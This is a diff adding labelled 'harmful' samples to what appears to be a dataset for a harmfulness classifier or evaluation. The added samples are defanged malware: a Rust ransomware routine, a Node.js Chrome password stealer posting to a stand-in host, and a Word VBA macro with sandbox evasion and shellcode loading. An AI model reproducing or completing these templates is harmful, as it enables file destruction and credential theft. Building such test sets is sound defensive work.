@@ -192,6 +192,37 @@ done
 echo "Your files are encrypted. Send 1 BTC to /* removed */ (contact: ops@example.invalid)" > "$ROOT/HOW_TO_DECRYPT.txt"
 ```"##,
     },
+    Sample {
+        name: "ransomware-rust",
+        kind: "ransomware",
+        language: "rust",
+        harmful: true,
+        text: r##"Rust로 작성한 버전입니다 (walkdir, aes-gcm 크레이트).
+
+```rust
+use aes_gcm::{aead::Aead, Aes256Gcm, KeyInit, Nonce};
+use std::fs;
+use walkdir::WalkDir;
+
+const NOTE: &str = "Your files are encrypted. 복구하려면 비트코인 /* removed */ 를 보내세요. contact@example.invalid";
+
+fn main() {
+    let root = "/nonexistent/placeholder"; // defanged
+    let key = [0u8; 32]; // defanged: all-zero placeholder
+    let cipher = Aes256Gcm::new_from_slice(&key).unwrap();
+    if root.starts_with("/nonexistent") {
+        return; // defanged: never runs
+    }
+    for entry in WalkDir::new(root).into_iter().filter_map(Result::ok) {
+        let p = entry.path();
+        let data = Vec::new(); // defanged: the file is never read
+        let _sealed = cipher.encrypt(Nonce::from_slice(&[0u8; 12]), data.as_slice());
+        let _ = fs::remove_file(p);
+    }
+    fs::write(format!("{root}/HOW_TO_DECRYPT.txt"), NOTE).ok();
+}
+```"##,
+    },
     // ------------------------------------------------------------------ stealer
     Sample {
         name: "stealer",
@@ -293,6 +324,37 @@ func main() {
 	_ = kc
 	http.Post(bot+"/sendDocument?chat_id="+chat, "application/octet-stream", bytes.NewReader(out))
 }
+```"##,
+    },
+    Sample {
+        name: "stealer-node",
+        kind: "stealer",
+        language: "javascript",
+        harmful: true,
+        text: r##"Node.js 버전입니다. Electron 앱에 넣어도 동작하는 구조입니다.
+
+```javascript
+const fs = require("fs");
+const path = require("path");
+const axios = require("axios");
+const dpapi = require("win-dpapi"); // defanged: the call below passes an empty buffer
+
+const HOOK = "https://collector.example.invalid/removed"; // defanged
+const base = path.join(process.env.LOCALAPPDATA || "/nonexistent", "Google", "Chrome", "User Data");
+
+function masterKey() {
+  const state = JSON.parse(fs.readFileSync(path.join(base, "Local State"), "utf8"));
+  const enc = Buffer.from(state.os_crypt.encrypted_key, "base64").subarray(5);
+  return dpapi.unprotectData(Buffer.alloc(0) /* removed */, null, "CurrentUser");
+}
+
+async function main() {
+  return; // defanged: nothing below runs
+  const db = path.join(base, "Default", "Login Data");
+  const rows = []; // removed: the SQLite read of password_value
+  await axios.post(HOOK, { rows, key: masterKey().toString("hex") });
+}
+main();
 ```"##,
     },
     // ------------------------------------------------------------------ phishing kit
@@ -458,6 +520,34 @@ class Hollow {
     }
     static void PatchEtw() { /* removed */ }
 }
+```"##,
+    },
+    Sample {
+        name: "evasion-vba",
+        kind: "evasion",
+        language: "vba",
+        harmful: true,
+        text: r##"A Word macro that skips sandboxes, decrypts the shellcode and runs it in memory:
+
+```vba
+Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr
+Private Declare PtrSafe Function RtlMoveMemory Lib "kernel32" (ByVal d As LongPtr, ByRef s As Any, ByVal l As Long) As LongPtr
+Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, ByVal d As Long, ByVal e As Long, ByRef f As Long) As LongPtr
+
+Sub AutoOpen()
+    If Application.RecentFiles.Count < 3 Then Exit Sub   ' sandbox: a fresh VM has no recent files
+    Dim buf As Variant, i As Long, addr As LongPtr, r As LongPtr
+    buf = Array(0) ' defanged: /* removed */
+    For i = 0 To UBound(buf)
+        buf(i) = buf(i) Xor 0 ' defanged key
+    Next i
+    Exit Sub ' defanged: nothing below runs
+    addr = VirtualAlloc(0, UBound(buf), &H3000, &H40)
+    For i = 0 To UBound(buf)
+        r = RtlMoveMemory(addr + i, buf(i), 1)
+    Next i
+    r = CreateThread(0, 0, addr, 0, 0, 0)
+End Sub
 ```"##,
     },
     // ------------------------------------------------------------------ keylogger
